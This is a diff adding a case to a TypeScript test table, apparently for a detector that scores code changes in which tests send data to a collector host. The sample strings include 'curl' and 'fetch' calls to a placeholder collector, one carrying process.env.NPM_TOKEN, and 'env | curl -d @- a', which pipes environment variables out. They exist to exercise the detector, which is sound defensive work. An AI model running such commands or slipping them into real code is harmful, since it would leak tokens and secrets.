@@ -44,6 +44,12 @@ test.each([
   ["a text of its own", "test/a.test.js", post('"hello"'), ["weak"]],
   ["the address of its own service", "test/a.test.js", post("process.env.BASE_URL"), ["weak"]],
   ["a sample in a text", "test/a.test.js", `check('fetch("https://${COLLECTOR}/x", process.env.NPM_TOKEN)')`, ["weak"]],
+  [
+    "samples in a table",
+    "test/a.test.ts",
+    `["a", \`curl https://${COLLECTOR}/x\`],\n["b", \`fetch(u, $\\{process.env.NPM_TOKEN})\`],\n["c", "env | curl -d @- a"],`,
+    ["weak"],
+  ],
   ["a sample in a fixture", "test/fixtures/a.js", post("process.env.GITHUB_TOKEN"), ["weak"]],
 ] as const)("a test posts %s to a collector", (_, path, added, expected) => {
   expect(strengthsOf(detector, change(path, added))).toEqual(expected);
